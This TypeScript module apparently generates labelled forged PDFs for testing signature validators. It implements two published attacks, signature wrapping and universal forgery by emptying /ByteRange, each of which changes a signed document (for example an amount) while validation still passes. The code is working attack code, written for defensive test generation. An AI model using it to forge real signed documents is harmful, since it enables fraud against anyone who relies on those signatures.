/** Attacks on the byte range: signature wrapping (SWA) and universal forgery (USF), Mladenov et al., CCS 2019. */

import { withField } from '../layout.ts';
import { contentObject, pageContent } from '../pdf/content.ts';
import { objectBytes } from '../pdf/objects.ts';
import type { SignedPdf } from '../pdf/sign.ts';
import { type Place, xrefTable } from '../pdf/xref.ts';
import { randomFrom } from '../random.ts';
import type { Cause, Clean, Forged } from '../types.ts';
import { signClean } from './signing.ts';
import { replacement } from './values.ts';

const inTables = (clean: Clean): boolean =>
  clean.form === 'pdf' && clean.pdf?.producer.xref === 'table' && !clean.pdf.producer.objectStreams;

/**
 * The second signed part is moved back, a second range in the gap says where it is now, and what stands in its place is
 * a page of the forger's, with a table that leads there. The digest still fits.
 */
export const signatureWrapped: Cause = {
  name: 'signature-wrapped',
  forged: true,
  needs: { form: 'pdf', producer: 'itext' },
  applies: (clean) => inTables(clean) && clean.plan.targets.amount !== undefined,
  apply: (clean, seed): Forged => {
    const { file, detail } = signClean(clean, seed);
    const change = replacement(clean, 'amount', randomFrom('wrapped', seed));
    const layout = withField(file.layouts, change.field, change.new)[change.page - 1];
    const content = file.contents[change.page - 1] ?? 0;
    if (layout === undefined) throw new RangeError('no page');
    const page = objectBytes(contentObject(pageContent(layout, file.producer), file.producer));
    const bytes = wrapped(file, content, page);
    const values = { page: change.page, old: change.old, new: change.new, follows: change.follows };
    return {
      bytes,
      mimeType: 'application/pdf',
      truth: { cause: 'signature-wrapped', forged: true, ...values, detail },
    };
  },
};

function wrapped(file: SignedPdf, number: number, body: Buffer): Buffer {
  const [, first, second, length] = file.byteRange;
  const hex = file.bytes.subarray(first, second);
  const tail = file.bytes.subarray(second);
  const forged = Buffer.concat([
    Buffer.from(`\n${number} 0 obj\n`, 'latin1'),
    body,
    Buffer.from('\nendobj\n', 'latin1'),
  ]);
  // The signed startxref is fixed: the forger's table has to stand where it points.
  const pad = 4096;
  const tableAt = file.startxref;
  const at = Math.max(tableAt + pad, second + 60 + forged.length + pad);
  const moved = at - second;
  const head = ` /ByteRange [0 ${first} ${at} ${length}]>>\nendobj`;
  const places = new Map<number, Place>();
  for (const [num] of file.objects) {
    const found = lastObject(tail, num);
    const own = found < 0 ? lastObject(file.bytes.subarray(0, first), num) : -1;
    if (found >= 0) places.set(num, { offset: second + moved + found });
    else if (own >= 0) places.set(num, { offset: own });
  }
  const before = second + head.length;
  const room = tableAt - before;
  const forgedAt = room > forged.length ? before + 1 : tableAt + 2048;
  places.set(number, { offset: forgedAt });
  const previous = /\/Prev (\d+)/.exec(tail.toString('latin1'))?.[1];
  const table = xrefTable(places, {
    Size: String(file.size),
    Root: `${file.catalog} 0 R`,
    Info: `${file.info} 0 R`,
    ID: `[<${file.id[0]}> <${file.id[1]}>]`,
    ...(previous === undefined ? {} : { Prev: previous }),
  });
  const gap = Buffer.alloc(at - second, 0x20);
  gap.write(head, 0, 'latin1');
  gap.write(table, tableAt - second, 'latin1');
  forged.copy(gap, forgedAt - 1 - second);
  return Buffer.concat([file.bytes.subarray(0, first), hex, gap, tail]);
}

/** Offset of `n 0 obj` at a line's start; -1 when it is not there. */
function lastObject(bytes: Buffer, num: number): number {
  const at = bytes.lastIndexOf(`\n${num} 0 obj\n`, undefined, 'latin1');
  return at < 0 ? -1 : at + 1;
}

const EMPTIED = ['/ByteRange null', '/ByteRange []', '/ByteRange [0 -9 0 9]', '/Bytes [0 0 0 0]'];

/** The range is taken away or made meaningless: careless validators then verify nothing, and say valid. */
export const signatureRangeEmptied: Cause = {
  name: 'signature-range-emptied',
  forged: true,
  needs: { form: 'pdf' },
  applies: (clean) => clean.form === 'pdf',
  apply: (clean, seed): Forged => {
    const { file, detail } = signClean(clean, seed);
    const bytes = Buffer.from(file.bytes);
    const at = bytes.lastIndexOf('/ByteRange [', undefined, 'latin1');
    const end = bytes.indexOf(']', at, 'latin1') + 1;
    const variant = EMPTIED[seed % EMPTIED.length] as string;
    bytes.write(variant.padEnd(end - at), at, 'latin1');
    return {
      bytes,
      mimeType: 'application/pdf',
      truth: { cause: 'signature-range-emptied', forged: true, detail: { ...detail, variant } },
    };
  },
};
